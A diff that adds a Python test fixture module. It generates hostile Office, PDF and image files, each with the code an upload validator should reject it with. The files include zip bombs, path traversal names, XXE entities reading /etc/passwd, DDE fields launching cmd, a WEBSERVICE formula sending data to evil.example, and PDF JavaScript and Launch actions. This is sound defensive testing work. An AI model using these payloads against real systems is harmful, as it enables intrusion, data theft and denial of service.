@@ -1,0 +1,424 @@
+"""The hostile folder: each file with the code it must be refused with. Written anew by every run."""
+
+from __future__ import annotations
+
+import os
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+
+from tests.uploads import builders as b
+
+MB = 1024 * 1024
+MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
+EXTERNAL_ENTITY = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+LAUGHS = b"<!DOCTYPE l [<!ENTITY a0 'ha'>%s]>" % b"".join(
+    b"<!ENTITY a%d '%s'>" % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
+)
+
+
+def noise(size: int) -> bytes:
+    """Bytes that do not compress, the same in every run."""
+    out, state = [], b"seed"
+    for number in range(size // 4 + 1):
+        out.append(struct.pack("<I", zlib.crc32(state, number * 2654435761 & 0xFFFFFFFF)))
+    return b"".join(out)[:size]
+
+
+def bomb() -> bytes:
+    """49 MB of one letter in 50 KB: within the sum, far beyond the ratio."""
+    return b.docx(b.paragraph("a" * (49 * MB)))
+
+
+def many_megabytes() -> bytes:
+    """60 MB in 1 MB, the ratio kept down by noise."""
+    parts = [(f"word/media/image{n}.png", b"\x00" * (12 * MB)) for n in range(5)]
+    return b.docx(more=[*parts, ("word/media/image9.png", noise(MB))])
+
+
+def understated() -> bytes:
+    """An entry that says 100 bytes and inflates to 40 MB, its checksum that of the first 100."""
+    blown = b"\x00" * (40 * MB)
+    data = b.docx(more=[("word/media/image1.png", blown)])
+    name = "word/media/image1.png"
+    crc = zlib.crc32(blown[:100])
+    data = b.patched(data, b.directory_at(data, name) + 16, "<I", crc)
+    data = b.patched(data, b.directory_at(data, name) + 24, "<I", 100)
+    data = b.patched(data, b.header_at(data, name) + 14, "<I", crc)
+    return b.patched(data, b.header_at(data, name) + 22, "<I", 100)
+
+
+def overlapping() -> bytes:
+    """Two directory records that share one entry's bytes, as the densest zip bombs do."""
+    data = b.docx(more=[("word/media/image1.png", b"a" * 9), ("word/media/image2.png", b"a" * 9)])
+    first = b.header_at(data, "word/media/image1.png")
+    return b.patched(data, b.directory_at(data, "word/media/image2.png") + 42, "<I", first)
+
+
+def renamed_inside() -> bytes:
+    """The directory says picture, the entry's own header says macro."""
+    data = b.docx(more=[("word/media/pic.bin", b"x" * 20)])
+    at = b.header_at(data, "word/media/pic.bin") + 30
+    return data[:at] + b"word/vbaProject.bin"[:18] + data[at + 18 :]
+
+
+def hidden_between() -> bytes:
+    """A gap between the last entry and the directory, where a second file hides."""
+    data, hidden = b.docx(), b"MZ" + b"\x00" * 62
+    end = data.rindex(b"PK\x05\x06")
+    at = end - b.directory_length(data)
+    moved = data[:at] + hidden + data[at:]
+    return b.patched(moved, end + len(hidden) + 16, "<I", at + len(hidden))
+
+
+def encrypted_entry() -> bytes:
+    data = b.docx()
+    for at in (b.directory_at(data, "word/document.xml") + 8, b.header_at(data, "word/document.xml") + 6):
+        data = b.patched(data, at, "<H", 1)
+    return data
+
+
+def locally_encrypted_entry() -> bytes:
+    data = b.docx()
+    return b.patched(data, b.header_at(data, "word/document.xml") + 6, "<H", 1)
+
+
+def strange_method() -> bytes:
+    return b.zipped(b.docx_entries(), zipfile.ZIP_LZMA)
+
+
+def twice() -> bytes:
+    return b.docx(more=[("word/Document.xml", b.word_document(b.paragraph("另一份")))])
+
+
+def corrupt() -> bytes:
+    data = b.docx()
+    at = b.header_at(data, "word/document.xml") + 30 + len("word/document.xml") + 40
+    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]
+
+
+def long_directory() -> bytes:
+    """A directory of 3 MB: two thousand entries with long comments would fill memory."""
+    data = b.docx()
+    return b.patched(data, data.rindex(b"PK\x05\x06") + 12, "<I", 3 * MB)
+
+
+def word_with(name: str, content_type: str = "", kind: str = "", data: bytes = b"x" * 64) -> bytes:
+    links = [(kind, name, False)] if kind else []
+    types = b.override(f"word/{name}", content_type) if content_type else ""
+    return b.docx(links=links, types=types, more=[(f"word/{name}", data)])
+
+
+def word_linked(kind: str, target: str, external: bool = True) -> bytes:
+    return b.docx(links=[(kind, target, external)])
+
+
+def main_of(old: str, new: str) -> bytes:
+    return b.docx(main=b.WORD_MAIN.replace(old, new))
+
+
+def word_field(*pieces: str, result: str = "0") -> bytes:
+    return b.docx(f"<w:p>{b.field(*pieces, result=result)}</w:p>")
+
+
+def sheet_part(name: str, content_type: str, data: bytes = b"<x/>") -> bytes:
+    types = b.override(f"xl/{name}", f"application/vnd.openxmlformats-officedocument.{content_type}")
+    return b.xlsx(types=types, more=[(f"xl/{name}", data)])
+
+
+def sheet_linked(kind: str, target: str) -> bytes:
+    return b.xlsx(more=[("xl/worksheets/_rels/sheet1.xml.rels", b.relationships((kind, target, False)))])
+
+
+def sheet_formula(formula: str) -> bytes:
+    return b.xlsx(f'<row r="1"><c r="A1"><f>{formula}</f><v>0</v></c></row>')
+
+
+def in_object_stream(inside: bytes, **options) -> bytes:
+    return b.modern_pdf(b.object_stream(inside, **options))
+
+
+SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+ASCII_HEX = b.stream(b"/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", b"00>")
+UNREAD_OBJSTM = b.pdf(b"<< /Type /ObjStm /N 1 /First 4 /Length 9 >>\nstream\r10 0 (abc)\nendstream")
+
+ZIPS: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "bomb-ratio.docx": ("expansion", bomb),
+    "bomb-sum.docx": ("expansion", many_megabytes),
+    "bomb-understated.docx": ("damaged", understated),
+    "bomb-overlapping.docx": ("polyglot", overlapping),
+    "entries-2500.docx": ("entries", lambda: b.docx(more=[(f"word/{n}", b"") for n in range(2500)])),
+    "directory-3mb.docx": ("entries", long_directory),
+    "traversal-dots.docx": ("path", lambda: b.docx(more=[("../../etc/cron.d/x", b"x")])),
+    "traversal-root.docx": ("path", lambda: b.docx(more=[("/etc/passwd", b"x")])),
+    "traversal-drive.docx": ("path", lambda: b.docx(more=[("C:/x.dll", b"x")])),
+    "traversal-backslash.docx": ("path", lambda: b.docx(more=[("word\\..\\..\\x", b"x")])),
+    "traversal-dot.docx": ("path", lambda: b.docx(more=[("word/./x.xml", b"<x/>")])),
+    "name-with-bell.docx": ("path", lambda: b.docx(more=[("word/\x07x", b"x")])),
+    "twice.docx": ("duplicate", twice),
+    "renamed-inside.docx": ("polyglot", renamed_inside),
+    "hidden-between.docx": ("polyglot", hidden_between),
+    "trailing.docx": ("polyglot", lambda: b.docx() + b"<script>alert(1)</script>"),
+    "comment.docx": ("polyglot", lambda: b.patched(b.docx(), len(b.docx()) - 2, "<H", 4) + b"MZ\x90\x00"),
+    "two-zips.docx": ("polyglot", lambda: b.docx() + b.docx()),
+    "leading.docx": ("polyglot", lambda: b"#!/bin/sh\n" + b.docx()),
+    "entry-password.docx": ("password", encrypted_entry),
+    "entry-password-hidden.docx": ("password", locally_encrypted_entry),
+    "method-lzma.docx": ("damaged", strange_method),
+    "corrupt.docx": ("damaged", corrupt),
+    "truncated.docx": ("damaged", lambda: b.docx()[:-300]),
+    "no-directory.docx": ("damaged", lambda: b.docx()[:200]),
+    "only-zip.docx": ("unwanted", lambda: b.zipped([("a.txt", b"hello")])),
+    "odt.docx": ("unwanted", lambda: b.zipped([("mimetype", b"application/vnd.oasis.opendocument.text")])),
+    "presentation.docx": (
+        "unwanted",
+        lambda: main_of("wordprocessingml", "presentationml"),
+    ),
+    "template.docx": ("unwanted", lambda: main_of("document.main", "template.main")),
+    "no-main.docx": ("damaged", lambda: b.zipped(b.docx_entries()[:2])),
+    "empty-main.docx": ("damaged", lambda: b.zipped([*b.docx_entries()[:2], ("word/document.xml", b"")])),
+    "no-relations.docx": ("damaged", lambda: b.zipped([b.docx_entries()[0], b.docx_entries()[2]])),
+}
+
+XML: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "xxe.docx": ("doctype", lambda: b.docx(more=[("word/footer1.xml", EXTERNAL_ENTITY + b"<x>&e;</x>")])),
+    "xxe-utf16.docx": (
+        "doctype",
+        lambda: b.docx(more=[("customXml/item1.xml", "<!DOCTYPE x><x/>".encode("utf-16"))]),
+    ),
+    "xxe-relations.docx": (
+        "doctype",
+        lambda: b.docx(more=[("word/_rels/x.xml.rels", EXTERNAL_ENTITY + b"<x/>")]),
+    ),
+    "xxe-unnamed.docx": ("doctype", lambda: b.docx(more=[("word/media/a.bin", b" <!DOCTYPE svg><svg/>")])),
+    "xxe.xlsx": ("doctype", lambda: b.xlsx(more=[("xl/sharedStrings.xml", EXTERNAL_ENTITY + b"<x/>")])),
+    "laughs.docx": ("doctype", lambda: b.docx(more=[("word/styles.xml", LAUGHS + b"<l>&a9;</l>")])),
+    "deep.docx": ("too_complex", lambda: b.docx("<w:sdt>" * 500 + "</w:sdt>" * 500)),
+    "elements.docx": ("too_complex", lambda: b.docx("<w:p/>" * 900_000, more=[("word/media/a", noise(MB))])),
+    "one-tag.docx": (
+        "too_complex",
+        lambda: b.docx(f'<w:p w:x="{">" * (30 * MB)}"/>', more=[("word/media/a", noise(MB))]),
+    ),
+    "one-comment.docx": (
+        "too_complex",
+        lambda: b.docx(f"<!--{'x' * (30 * MB)}-->", more=[("word/media/a", noise(MB))]),
+    ),
+    "not-well-formed.docx": ("damaged", lambda: b.docx("<w:p>")),
+    "codec.docx": ("damaged", lambda: b.docx(more=[("a.xml", b'<?xml version="1.0" encoding="zip"?><a/>')])),
+}
+
+ACTIVE: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "docm.docx": (
+        "macro",
+        lambda: b.docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"),
+    ),
+    "macro-by-name.docx": ("macro", lambda: word_with("vbaProject.bin")),
+    "macro-by-type.docx": ("macro", lambda: word_with("a.bin", "application/vnd.ms-office.vbaProject")),
+    "macro-by-relation.docx": (
+        "macro",
+        lambda: word_with("a.bin", kind=f"{MICROSOFT}/vbaProject"),
+    ),
+    "ribbon.docx": (
+        "macro",
+        lambda: word_linked(f"{MICROSOFT}/ui/extensibility", "u.xml"),
+    ),
+    "macro-sheet.xlsx": ("macro", lambda: sheet_part("macrosheets/sheet2.xml", "x+xml")),
+    "macro-sheet-by-type.xlsx": ("macro", lambda: sheet_part("s2.xml", "vnd.ms-excel.macrosheet+xml")),
+    "xlsm.xlsx": ("macro", lambda: b.xlsx(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml")),
+    "ole-by-place.docx": ("embedded", lambda: word_with("embeddings/a.bin")),
+    "ole-by-type.docx": (
+        "embedded",
+        lambda: word_with("a.bin", "application/vnd.openxmlformats-officedocument.oleObject"),
+    ),
+    "ole-by-relation.docx": ("embedded", lambda: word_linked("oleObject", "a.bin", external=False)),
+    "ole-by-content.docx": ("embedded", lambda: word_with("media/image1.png", data=b.ole("Package"))),
+    "zip-in-zip.docx": ("embedded", lambda: word_with("media/image1.png", data=b.docx())),
+    "program-inside.docx": ("embedded", lambda: word_with("media/image1.png", data=b"MZ\x90\x00" * 20)),
+    "activex.docx": ("embedded", lambda: word_linked("control", "activeX/activeX1.xml", external=False)),
+    "html-chunk.docx": ("embedded", lambda: word_linked("aFChunk", "chunk.html", external=False)),
+    "add-in.docx": ("embedded", lambda: word_with("webextensions/taskpanes.xml", data=b"<x/>")),
+    "template-external.docx": (
+        "external",
+        lambda: word_linked("attachedTemplate", "https://evil.example/t.dotm"),
+    ),
+    "template-file.docx": ("external", lambda: word_linked("attachedTemplate", "file:///C:/t.dotm")),
+    "image-external.docx": ("external", lambda: word_linked("image", "http://evil.example/a.png")),
+    "image-unmarked.docx": (
+        "external",
+        lambda: word_linked("image", "\\\\10.0.0.1\\a\\a.png", external=False),
+    ),
+    "ole-link.docx": ("embedded", lambda: word_linked("oleObject", "mhtml:http://evil.example/x.html")),
+    "frame.docx": ("external", lambda: word_linked("frame", "http://evil.example/f.html")),
+    "unknown-external.docx": ("external", lambda: word_linked("somethingNew", "http://evil.example/")),
+    "vml-image.docx": (
+        "external",
+        lambda: b.docx('<w:p><w:r><w:pict><v:imagedata src="//evil/a.png"/></w:pict></w:r></w:p>'),
+    ),
+    "workbook-link.xlsx": (
+        "external",
+        lambda: sheet_linked("externalLink", "externalLink1.xml"),
+    ),
+    "connection.xlsx": ("external", lambda: sheet_linked("connections", "connections.xml")),
+    "link-file.docx": ("link", lambda: word_linked("hyperlink", "file:///etc/passwd")),
+    "link-share.docx": ("link", lambda: word_linked("hyperlink", "\\\\10.0.0.1\\share")),
+    "link-program.docx": ("link", lambda: word_linked("hyperlink", "ms-msdt:/id PCWDiagnostic")),
+    "link-script.docx": ("link", lambda: word_linked("hyperlink", " JavaScript:alert(1)")),
+    "link-field.docx": ("link", lambda: word_field(' HYPERLINK \\o "看" ', '"file://10.0.0.1/a" ')),
+    "dde.docx": ("field", lambda: word_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
+    "dde-split.docx": ("field", lambda: word_field(" D", "DE", "AU<!-- -->", "TO", ' cmd "/k"')),
+    "dde-lower.docx": ("field", lambda: word_field('dde excel "a" "b"')),
+    "dde-deleted.docx": (
+        "field",
+        lambda: word_field("<w:del><w:r><w:delInstrText>DDE x y</w:delInstrText></w:r></w:del>"),
+    ),
+    "dde-nested.docx": ("field", lambda: word_field("IF 1 = 1 ", b.field("DDEAUTO cmd"), ' "" ""')),
+    "dde-computed.docx": ("field", lambda: word_field(b.field("QUOTE 68 68 69", result=""), " cmd")),
+    "dde-by-result.docx": ("field", lambda: word_field('"', b.field("QUOTE 1", result="DDE"), " cmd")),
+    "dde-simple.docx": ("field", lambda: b.docx('<w:p><w:fldSimple w:instr=" DDEAUTO cmd /k"/></w:p>')),
+    "dde-computed-simple.docx": ("field", lambda: word_field('<w:fldSimple w:instr="QUOTE 68"/>', " cmd")),
+    "dde-open.docx": ("field", lambda: b.docx(f"<w:p>{b.mark('begin')}{b.instruction('DDE a b')}</w:p>")),
+    "dde-loose.docx": ("field", lambda: b.docx(f"<w:p>{b.instruction('DDEAUTO a b')}</w:p>")),
+    "dde-padded.docx": ("field", lambda: word_field(" " * 9000, "DDEAUTO cmd")),
+    "dde-strict.docx": (
+        "field",
+        lambda: b.docx(
+            '<f:p xmlns:f="http://purl.oclc.org/ooxml/wordprocessingml/main">'
+            '<f:fldSimple f:instr="DDE a b"/></f:p>'
+        ),
+    ),
+    "dde-header.docx": (
+        "field",
+        lambda: b.docx(more=[("word/header1.xml", b.word_document(f"<w:p>{b.field('DDE a b')}</w:p>"))]),
+    ),
+    "include-text.docx": ("field", lambda: word_field('INCLUDETEXT "\\\\\\\\10.0.0.1\\\\a"')),
+    "include-picture.docx": ("field", lambda: word_field('INCLUDEPICTURE "http://evil.example/a.png" \\d')),
+    "macro-button.docx": ("field", lambda: word_field("MACROBUTTON AutoOpen 点击")),
+    "fields-deep.docx": (
+        "too_complex",
+        lambda: b.docx(f"<w:p>{(b.mark('begin') + b.instruction('IF ')) * 50}</w:p>"),
+    ),
+    "dde.xlsx": ("formula", lambda: sheet_formula("cmd|'/c calc'!A0")),
+    "web.xlsx": ("formula", lambda: sheet_formula('_xlfn.WEBSERVICE("http://evil.example/"&amp;A2)')),
+    "long-formula.xlsx": ("too_complex", lambda: sheet_formula("1+" * 5000 + "1")),
+    "row-million.xlsx": ("sheet_size", lambda: b.xlsx('<row r="1048576"/>')),
+    "cell-million.xlsx": ("sheet_size", lambda: b.xlsx('<row><c r="A1048576"><v>1</v></c></row>')),
+    "column-last.xlsx": ("sheet_size", lambda: b.xlsx('<row r="1"><c r="XFD1"><v>1</v></c></row>')),
+    "column-strange.xlsx": ("sheet_size", lambda: b.xlsx('<row r="1"><c r="AAAAAAAA1"/></row>')),
+}
+
+
+PDFS: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "script.pdf": ("active", lambda: b.pdf(SCRIPT)),
+    "script-escaped.pdf": ("active", lambda: b.pdf(b"<< /S /J#61v#61Script /JS (1) >>")),
+    "script-packed.pdf": ("active", lambda: in_object_stream(SCRIPT)),
+    "script-packed-late.pdf": ("active", lambda: in_object_stream(SCRIPT, pad=3 * MB)),
+    "script-packed-cut.pdf": ("active", lambda: in_object_stream(SCRIPT, pad=256 * 1024 - 16)),
+    "script-packed-unnamed.pdf": ("active", lambda: in_object_stream(SCRIPT, name=b"/Type /Metadata")),
+    "script-packed-escaped.pdf": ("active", lambda: in_object_stream(b"<< /S /Java#53cript >>")),
+    "script-packed-oddly.pdf": ("too_complex", lambda: b.modern_pdf(ASCII_HEX)),
+    "script-packed-hidden.pdf": ("too_complex", lambda: UNREAD_OBJSTM),
+    "script-packed-broken.pdf": (
+        "damaged",
+        lambda: b.modern_pdf(b.stream(b"/Type /ObjStm /Filter /FlateDecode", b"nothing packed")),
+    ),
+    "launch.pdf": ("active", lambda: b.pdf(b"<< /S /Launch /F (cmd.exe) >>")),
+    "attachment.pdf": ("active", lambda: b.pdf(b.stream(b"/Type /EmbeddedFile", b"MZ"))),
+    "submit.pdf": ("active", lambda: b.pdf(b"<< /S /SubmitForm /F (http://evil.example) >>")),
+    "remote.pdf": ("active", lambda: b.pdf(b"<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\a) >>")),
+    "xfa.pdf": ("active", lambda: b.pdf(b"<< /XFA [ (a) 5 0 R ] >>")),
+    "password.pdf": ("password", lambda: b.pdf(b"<< /Filter /Standard >>", trailer=b"/Encrypt 4 0 R")),
+    "pages-600.pdf": ("pages", lambda: b.pdf(pages=600)),
+    "bomb.pdf": ("expansion", lambda: in_object_stream(b"0", pad=60 * MB)),
+    "streams.pdf": ("too_complex", lambda: b.pdf(b"stream\n" * 25_000)),
+    "slashes.pdf": ("too_complex", lambda: b.pdf(b"/" * (19 * MB))),
+    "late-header.pdf": ("polyglot", lambda: b"GIF89a\n" + b.pdf()),
+    "trailing-zip.pdf": ("polyglot", lambda: b.pdf() + b.docx()),
+    "trailing-page.pdf": ("polyglot", lambda: b.pdf() + b"<html><script>alert(1)</script></html>"),
+    "zip-around.pdf": ("polyglot", lambda: _zip_around(b.pdf(b.stream(b"", b.docx())))),
+    "truncated.pdf": ("damaged", lambda: b.pdf()[:-60]),
+    "no-table.pdf": ("damaged", lambda: b"%PDF-1.4\n" + b"x" * 50 + b"\nstartxref\n12\n%%EOF\n"),
+    "version.pdf": ("damaged", lambda: b.pdf().replace(b"%PDF-1.4", b"%PDF-x.y")),
+}
+
+
+def _zip_around(data: bytes) -> bytes:
+    """The zip in the PDF says that all the rest of the PDF is its comment."""
+    end = data.rindex(b"PK\x05\x06")
+    return b.patched(data, end + 20, "<H", len(data) - end - 22)
+
+
+def jpeg_of(*pieces: bytes) -> bytes:
+    return b"\xff\xd8" + b"".join(pieces) + b"\xff\xd9"
+
+
+PICTURES: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "bomb.jpg": ("pixels", lambda: b.jpeg(width=65_500, height=65_500)),
+    "wide.jpg": ("pixels", lambda: b.jpeg(width=30_000, height=10)),
+    "bomb.png": ("pixels", lambda: b.png(width=100_000, height=100_000, pixels=b"\x00" * MB)),
+    "tall.png": ("pixels", lambda: b.png(width=1, height=30_000, pixels=b"\x00")),
+    "no-size.png": ("damaged", lambda: b.png(width=0, height=8, pixels=b"")),
+    "with-zip.jpg": ("polyglot", lambda: b.jpeg(after=b.docx())),
+    "with-script.jpg": ("polyglot", lambda: b.jpeg(after=b"<script>alert(1)</script>")),
+    "with-zip.png": ("polyglot", lambda: b.png(after=b.docx())),
+    "truncated.jpg": ("damaged", lambda: b.jpeg()[:-2]),
+    "cut-segment.jpg": ("damaged", lambda: b.jpeg()[:60]),
+    "short-frame.jpg": (
+        "damaged",
+        lambda: jpeg_of(b.segment(0xC0, b"\x08"), b.segment(0xDA, b"")),
+    ),
+    "no-frame.jpg": ("damaged", lambda: jpeg_of(b.segment(0xDA, b""), b"x")),
+    "late-frame.jpg": (
+        "damaged",
+        lambda: jpeg_of(b.segment(0xDA, b""), b"x", b.jpeg()[2:]),
+    ),
+    "strange-marker.jpg": ("damaged", lambda: b.jpeg(b.segment(0xF7, b"x"))),
+    "tiny-length.jpg": ("damaged", lambda: b.jpeg(b"\xff\xfe\x00\x01")),
+    "between.jpg": ("damaged", lambda: b.jpeg(b"no marker")),
+    "segments.jpg": ("too_complex", lambda: b.jpeg(b.segment(0xFE, b"") * 4_000_000)),
+    "truncated.png": ("damaged", lambda: b.png()[:-12]),
+    "checksum.png": ("damaged", lambda: b.png().replace(b"IDAT", b"IDAU", 1)),
+    "critical.png": ("damaged", lambda: b.png(b.chunk(b"EVIL", b"x"))),
+    "no-data.png": ("damaged", lambda: b"\x89PNG\r\n\x1a\n" + b.chunk(b"IEND", b"")),
+    "two-headers.png": ("damaged", lambda: b.png(b.png()[8:33])),
+    "chunks.png": ("too_complex", lambda: b.png(b.chunk(b"tEXt", b"") * 1_000_000)),
+}
+
+OTHERS: dict[str, tuple[str, Callable[[], bytes]]] = {
+    "empty.docx": ("empty", lambda: b""),
+    "empty.pdf": ("empty", lambda: b""),
+    "old.doc": ("legacy", b.old_doc),
+    "old-renamed.docx": ("legacy", b.old_doc),
+    "old.xls": ("legacy", b.old_xls),
+    "old.wps": ("wps", lambda: b.ole("Root Entry", "WpsDocument")),
+    "password.docx": ("password", lambda: b.ole("Root Entry", "EncryptionInfo", "EncryptedPackage")),
+    "page.docx": ("unknown", lambda: b"<html><script>alert(1)</script></html>"),
+    "vector.png": ("unknown", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
+    "text.docx": ("unknown", "对照检查".encode),
+    "one-byte.pdf": ("unknown", lambda: b"%"),
+    "program.jpg": ("unwanted", lambda: b"MZ\x90\x00" + b"\x00" * 200),
+    "archive.docx": ("unwanted", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100),
+    "animation.png": ("unwanted", lambda: b"GIF89a" + b"\x00" * 50),
+    "phone.jpg": ("heic", lambda: b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 40),
+    "picture.docx": ("mismatch", b.png),
+    "document.pdf": ("mismatch", b.docx),
+    "paper.docx": ("mismatch", b.pdf),
+    "table.docx": ("mismatch", b.xlsx),
+    "picture.exe": ("mismatch", b.jpeg),
+}
+
+SPARSE = {"300mb.docx": ("too_large", 300 * MB), "300mb.pdf": ("too_large", 300 * MB)}
+
+FILES = ZIPS | XML | ACTIVE | PDFS | PICTURES | OTHERS
+EXPECTED = {name: code for name, (code, _) in (FILES | SPARSE).items()}
+
+
+def write_folder(folder: Path) -> None:
+    """Write every hostile file; the huge ones have holes and take no room."""
+    for name, (_, build) in FILES.items():
+        (folder / name).write_bytes(build())
+    for name, (_, size) in SPARSE.items():
+        with (folder / name).open("wb") as file:
+            file.write(b"PK\x03\x04")
+            os.truncate(file.fileno(), size)
